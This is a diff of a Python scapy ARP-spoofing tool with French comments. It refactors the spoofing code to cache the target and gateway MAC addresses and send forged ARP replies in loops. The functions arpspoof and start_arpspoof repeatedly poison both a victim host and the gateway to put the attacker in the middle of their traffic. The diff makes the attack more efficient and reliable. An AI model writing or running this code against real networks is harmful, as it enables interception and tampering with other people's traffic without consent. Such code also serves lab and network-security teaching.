@@ -4,17 +4,38 @@ import argparse
 import sys
 import getMac
 
-def spoofer(targetIP, spoofIP):
-    mac = getMac.get_mac(targetIP)
-    print(mac)
-    packet= scapy.Ether(dst=mac) / scapy.ARP(op=2,pdst=targetIP,hwdst=mac,psrc=spoofIP)
+def _spoof_packet(targetIP, mac, spoofIP):
     #op=2 <==> ARP Response
     #pdst <==> @ip de la cible
     #hwdst<==> @mac de la cible
     #psrc <==> @ip de la machine qu'on veut spoofer
     #hwsrc<==> par défaut elle va prendre @ mac de la machine qui fait l'attaque
+    return scapy.Ether(dst=mac) / scapy.ARP(op=2,pdst=targetIP,hwdst=mac,psrc=spoofIP)
+
+def spoofer(targetIP, spoofIP):
+    mac = getMac.get_mac(targetIP)
+    print(mac)
+    spoofer_with_mac(targetIP, spoofIP, mac)
+
+def spoofer_with_mac(targetIP, spoofIP, mac):
+    # Même envoi que spoofer, sans nouvelle requête ARP who-has : la MAC est déjà connue
+    scapy.sendp(_spoof_packet(targetIP, mac, spoofIP), verbose=False)
+
+def resolve_macs(ip1, ip2, mac1=None, mac2=None):
+    # MAC déjà connues gardées en cache : seules celles encore à None sont redemandées
+    if mac1 is None:
+        mac1 = getMac.get_mac(ip1)
+    if mac2 is None:
+        mac2 = getMac.get_mac(ip2)
+    return mac1, mac2
+
+def build_spoof_pkt(targetIP, spoofIP, mac):
+    # Construit le paquet une seule fois (MAC déjà résolue) pour pouvoir le renvoyer
+    return _spoof_packet(targetIP, mac, spoofIP)
 
-    scapy.sendp(packet, verbose=False)
+def send_packets(packets):
+    # Un seul appel sendp pour toute la liste de paquets
+    scapy.sendp(packets, verbose=False)
 
 def restore(destinationIP, sourceIP):
     mac = getMac.get_mac(destinationIP)
@@ -24,10 +45,16 @@ def restore(destinationIP, sourceIP):
 
 def arpspoof(targetIP,gatewayIP):
     packets = 0
+    targetMac = gatewayMac = None
     try:
         while True:
-            spoofer(targetIP,gatewayIP) # 1 er appel pour faire tromper la pasrelle
-            spoofer(gatewayIP,targetIP) # 2 eme appel pour faire tromper la victime
+            targetMac, gatewayMac = resolve_macs(targetIP, gatewayIP, targetMac, gatewayMac)
+            if targetMac is None or gatewayMac is None:
+                # MAC introuvable : rien n'est envoyé, nouvelle tentative au cycle suivant
+                time.sleep(2)
+                continue
+            spoofer_with_mac(targetIP,gatewayIP,targetMac) # 1 er appel pour faire tromper la pasrelle
+            spoofer_with_mac(gatewayIP,targetIP,gatewayMac) # 2 eme appel pour faire tromper la victime
             print("\r[+] Sent packets "+ str(packets)),
             sys.stdout.flush()
             packets +=2
@@ -44,10 +71,16 @@ def start_arpspoof(targetIP, gatewayIP):
     global arpspoof_running
     arpspoof_running = True
     packets = 0
+    targetMac = gatewayMac = None
     try:
         while arpspoof_running:
-            spoofer(targetIP, gatewayIP)   # trompe la passerelle
-            spoofer(gatewayIP, targetIP)   # trompe la victime
+            targetMac, gatewayMac = resolve_macs(targetIP, gatewayIP, targetMac, gatewayMac)
+            if targetMac is None or gatewayMac is None:
+                # MAC introuvable : rien n'est envoyé, nouvelle tentative au cycle suivant
+                time.sleep(2)
+                continue
+            spoofer_with_mac(targetIP, gatewayIP, targetMac)   # trompe la passerelle
+            spoofer_with_mac(gatewayIP, targetIP, gatewayMac)  # trompe la victime
             print("\r[+] Sent packets " + str(packets), end="")
             packets += 2
             time.sleep(2)